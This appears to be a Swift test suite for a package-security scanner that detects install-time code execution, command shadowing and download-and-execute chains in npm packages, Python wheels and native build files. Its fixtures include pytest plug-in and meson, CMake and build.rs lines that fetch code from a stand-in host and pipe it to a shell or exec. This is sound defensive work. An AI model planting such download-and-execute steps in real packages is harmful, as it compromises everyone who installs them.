import SallyportModel
import Testing

@testable import SallyportAnalysis

@Suite("What runs without being asked for, beyond hooks")
struct EntryTests {
    private static let start = "require('child_process').exec('true');\n"

    @Test(
        "of npm: every way to load the package",
        arguments: [
            ("\"svelte\": \"./a.js\"", "a.js"), ("\"directories\": {\"bin\": \"./tools\"}", "tools/a.js"),
            ("\"main\": \"./not-there.js\"", "index.js"), ("\"main\": \"lib\"", "lib/index.js"),
            ("\"exports\": {\".\": {\"deno\": [{\"worker\": \"./a.mjs\"}]}}", "a.mjs"),
            ("\"type\": \"module\"", "index.js"),
        ]
    )
    func loads(_ extra: String, _ path: String) {
        let report = Sample.report(Sample.npm([path: Self.start], extra: extra))
        #expect(!report.facts(.capabilityProcess, .load).isEmpty, "\(report.facts)")
    }

    @Test("of npm: a command in place of a well-known one")
    func shadows() {
        let files = ["cli.js": "console.log(1);\n"]
        let bad = Sample.report(Sample.npm(files, extra: "\"bin\": {\"git\": \"cli.js\", \"sample\": \"cli.js\"}"))
        #expect(bad.facts(.filePlanted, .load).map(\.detail) == ["a command that stands in for git"])
        let own = Sample.report(Sample.npm(files, extra: "\"bin\": {\"sample\": \"cli.js\"}"))
        #expect(own.facts(.filePlanted).isEmpty)
    }

    @Test(
        "a command belongs to a package that has its name for a word",
        arguments: [
            ("my-tools", "ls", true), ("nodes", "node", true), ("@acme/node", "node", false),
            ("pip", "pip3", false), ("docker-compose", "docker", false), ("cat", "cat.exe", false),
            ("catalogue", "cat", true),
        ]
    )
    func names(_ package: String, _ command: String, _ isStated: Bool) {
        #expect(CommandNames.facts([command], of: package, at: Place(path: "p")).isEmpty != isStated)
    }

    @Test("of wheels: commands in place of well-known ones")
    func shadowsInWheels() {
        let points = "[console_scripts]\npython3 = sample:main\nsample = sample:main\n"
        let files = [
            "sample/__init__.py": "", "sample-1.0.dist-info/entry_points.txt": points,
            "sample-1.0.data/scripts/sudo": "#!python\n", "sample-1.0.data/scripts/sample-tool": "#!python\n",
        ]
        let report = Sample.report(wheel: Sample.wheel(files))
        #expect(
            Set(report.facts(.filePlanted, .load).map(\.detail)) == [
                "a command that stands in for python3", "a command that stands in for sudo",
            ]
        )
    }

    @Test("of wheels: a plug-in of a tool that loads it at its start")
    func plugIn() {
        let code = """
            import urllib.request
            exec(urllib.request.urlopen("https://x.example.invalid/a").read())
            """
        let points = "[pytest11]\nsample = sample.plugin\n"
        let files = [
            "sample/__init__.py": "", "sample/plugin.py": code, "sample-1.0.dist-info/entry_points.txt": points,
        ]
        #expect(!Sample.report(wheel: Sample.wheel(files)).facts(.chainDownloadExecute, .install).isEmpty)
        // A plug-in that starts programs and reads the environment is like any other.
        let honest = files.merging([
            "sample/plugin.py": "import os, subprocess\nsubprocess.run(['true'], env=os.environ)\n"
        ]) {
            $1
        }
        let report = Sample.report(wheel: Sample.wheel(honest))
        #expect(report.denied.isEmpty)
        #expect(report.facts(.filePlanted).isEmpty)
    }

    @Test(
        "of native builds: commands of their definitions",
        arguments: [
            (
                "mesonpy", "meson.build",
                "project('a') # run_command('no')\nrun_command('sh', '-c', 'curl -s https://x.example.invalid | sh')\n"
            ),
            (
                "scikit_build_core.build", "CMakeLists.txt",
                "#[[ no ]]\nexecute_process(COMMAND sh -c \"curl -s https://x.example.invalid | sh\" TIMEOUT 5)\n"
            ),
            (
                "maturin", "build.rs",
                "fn main() { /* no */ Command::new(\"sh\").arg(\"-c\").args([r#\"curl https://x.example.invalid | sh\"#]).spawn(); }"
            ),
        ]
    )
    func definitions(_ backend: String, _ name: String, _ text: String) {
        let project = "[build-system]\nrequires = []\nbuild-backend = \"\(backend)\"\n"
        let report = Sample.report(Sample.sdist(["pyproject.toml": project, name: text]), "sample-1.0.tar.gz")
        #expect(report.facts(.chainDownloadExecute, .install).count == 1, "\(report.facts)")
    }

    @Test(
        "of native builds: hostile definitions end in time",
        arguments: ["(", "run_command(", "'", "\"", "#[[", "r#\"", "/*", "command:["]
    )
    func hostile(_ piece: String) {
        let bytes = Array(String(repeating: piece, count: 20_000).utf8)
        for name in ["meson.build", "CMakeLists.txt", "build.rs"] {
            let definition = BuildDefinition(bytes, named: name)
            #expect(definition.commands.count <= BuildDefinition.commandsMax)
        }
    }
}
